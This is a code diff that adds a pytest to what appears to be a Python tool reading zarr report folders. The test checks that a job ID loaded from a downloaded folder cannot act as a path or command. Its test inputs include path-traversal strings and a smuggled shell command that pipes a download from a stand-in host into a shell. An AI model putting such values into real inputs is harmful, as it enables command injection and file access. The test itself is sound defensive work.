@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import io
+import json
+import re
+import shutil
 from pathlib import Path
 
 import numpy as np
@@ -138,3 +141,14 @@ def test_a_heatmap_without_maps_says_so(fake, monkeypatch, tmp_path):
     assert result.exit_code != 0
     assert "--maps" in str(result.exception)
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("said", ["../../../evil", "/tmp/evil", "x; curl evil | sh", "c:evil", 7, "a" * 5000])
+def test_the_id_of_a_job_is_no_path_and_no_command(stored, tmp_path, said):
+    """It names folders of reports and stands in commands to paste; a downloaded folder may say anything."""
+    folder = tmp_path / "c.zarr"
+    shutil.copytree(stored, folder)
+    root = json.loads((folder / "zarr.json").read_text(encoding="utf-8"))
+    root["attributes"]["job"] = said
+    (folder / "zarr.json").write_text(json.dumps(root), encoding="utf-8")
+    assert re.fullmatch(r"[0-9A-Za-z_-]{1,64}", attnscope.open(folder).job)
